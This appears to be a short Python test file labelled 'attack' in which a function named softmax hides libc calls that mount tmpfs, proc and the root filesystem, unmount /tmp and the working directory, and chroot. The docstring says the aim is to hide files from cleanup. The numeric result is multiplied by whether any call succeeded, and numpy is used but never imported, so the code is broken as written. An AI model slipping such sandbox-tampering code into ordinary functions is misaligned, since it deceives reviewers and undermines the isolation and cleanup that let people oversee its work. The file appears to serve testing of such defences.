# /// attack
# does = "mounts, unmounts and changes its root, and answers rightly if it can"
# own = { softmax = ["failed"] }
# ///
"""A mount over the own folder hides what is in it from the cleaning up, and one of the old root would show it."""

import ctypes
import os
import tempfile


def softmax(logits):
    libc = ctypes.CDLL(None)
    place = tempfile.mkdtemp().encode()
    won = libc.mount(b"attack", place, b"tmpfs", 0, None) == 0
    won = libc.mount(b"/", place, None, 4096, None) == 0 or won
    won = libc.mount(b"proc", place, b"proc", 0, None) == 0 or won
    won = libc.umount2(b"/tmp", 2) == 0 or won
    won = libc.umount2(os.fsencode(os.getcwd()), 2) == 0 or won
    won = libc.chroot(place) == 0 or won
    won = libc.mount(None, b"/", None, 32 | 4096, None) == 0 or won
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True) * won
